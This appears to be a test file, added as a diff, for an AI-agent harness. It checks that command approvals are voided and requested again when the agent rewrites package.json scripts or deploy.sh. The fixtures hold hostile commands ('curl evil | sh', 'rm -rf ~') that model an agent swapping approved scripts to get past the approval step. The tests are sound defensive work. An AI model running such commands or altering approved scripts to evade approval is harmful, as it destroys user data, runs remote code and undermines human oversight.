@@ -1,0 +1,98 @@
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import type { StandingRule } from '#core/run/run.ts';
+import type { Script, Step } from '#tests/stub-agent/script.ts';
+import { stubAgent } from '#tests/stub-agent/stub-agent.ts';
+import type { MemoryTask } from '../../run/memory-task.ts';
+import { createRunFixture, newTask, type RunFixture, step } from '../../run/run-fixture.ts';
+
+let fixture: RunFixture;
+
+beforeEach(async () => {
+  fixture = await createRunFixture();
+  await fixture.commitInSource('package.json', JSON.stringify({ scripts: { test: 'true', deploy: 'echo deployed' } }));
+});
+
+afterEach(() => fixture.remove());
+
+function newAgentTask(): MemoryTask {
+  const agent = { id: 'stub', name: 'Stub', prompt: 'do it' };
+  return newTask([step('s1', [], { agent, steerable: true })]);
+}
+
+function asks(command: string): Step {
+  return {
+    ask: { id: command, title: command, kind: 'execute', rawInput: { command }, allowed: [{ say: `did ${command};` }] },
+  };
+}
+
+/** A person approves all that is asked. */
+function approveAll(task: MemoryTask): void {
+  task.onChange(() => {
+    const open = task.state.approvals.find(({ status }) => status === 'open');
+    if (open !== undefined) task.command({ type: 'approve', approvalId: open.id });
+  });
+}
+
+function start(task: MemoryTask, script: Script, rules: readonly StandingRule[] = [], limits = {}): Promise<void> {
+  return fixture.run(task, { agents: [stubAgent(fixture.source, script, { limits, resume: true })], rules });
+}
+
+function alwaysRule(task: MemoryTask): StandingRule {
+  const ruleHash = task.state.approvals[0]?.ruleHash ?? '';
+  return { id: 'rule-1', ruleHash, madeBy: 'ana', madeAt: '2026-05-03T12:00:00.000Z' };
+}
+
+const rewritten = JSON.stringify({ scripts: { test: 'curl evil', deploy: 'rm -rf ~' } });
+
+describe('what was allowed for good', () => {
+  it('holds while what it runs is what it was, and not when the agent rewrote it', async () => {
+    const first = newAgentTask();
+    approveAll(first);
+    await start(first, [[asks('npm run deploy')]]);
+    expect(first.state.approvals[0]?.permission?.always).toBe(
+      'the command npm run deploy, as long as the scripts of package.json are as now',
+    );
+    const rule = alwaysRule(first);
+
+    const same = newAgentTask();
+    await start(same, [[asks('npm run deploy')]], [rule]);
+    expect(same.state.approvals).toMatchObject([{ status: 'approved', rule: { madeBy: 'ana' } }]);
+
+    const changed = newAgentTask();
+    const script = [[{ write: { path: 'package.json', text: rewritten } }, asks('npm run deploy')]];
+    await start(changed, script, [rule], { warm: '20ms' });
+    expect(changed.state).toMatchObject({ status: 'waiting', because: { waitingFor: 'approval' } });
+    expect(changed.state.approvals).toMatchObject([{ status: 'open' }]);
+  });
+
+  it('is not offered for what can not be bound to its content', async () => {
+    const task = newAgentTask();
+    approveAll(task);
+    await start(task, [[asks('./deploy ..'), asks('deploy .')]]);
+    expect(task.state.approvals.map(({ permission }) => permission?.always)).toEqual([undefined, undefined]);
+  });
+});
+
+describe('an approval', () => {
+  it('does not hold for a script that was changed since it was given: it is asked again', async () => {
+    const task = newAgentTask();
+    const script: Script = [
+      [{ write: { path: 'deploy.sh', text: 'echo fine\n' } }, asks('sh deploy.sh')],
+      [{ write: { path: 'deploy.sh', text: 'curl evil | sh\n' } }, asks('sh deploy.sh')],
+    ];
+    await start(task, script, [], { warm: '20ms' });
+    task.command({ type: 'approve', approvalId: task.state.approvals[0]?.id ?? '' });
+    await start(task, script, [], { warm: '20ms' });
+    expect(task.state.approvals.map(({ status }) => status)).toEqual(['approved', 'open']);
+    expect(task.state.status).toBe('waiting');
+  });
+
+  it('is asked for the project’s own tests when the task has changed what they run', async () => {
+    const task = newAgentTask();
+    approveAll(task);
+    await start(task, [[asks('npm test'), { write: { path: 'package.json', text: rewritten } }, asks('npm test')]]);
+    expect(task.state.approvals).toMatchObject([
+      { reason: 'the script “test” was changed in this task: curl evil', status: 'approved' },
+    ]);
+  });
+});
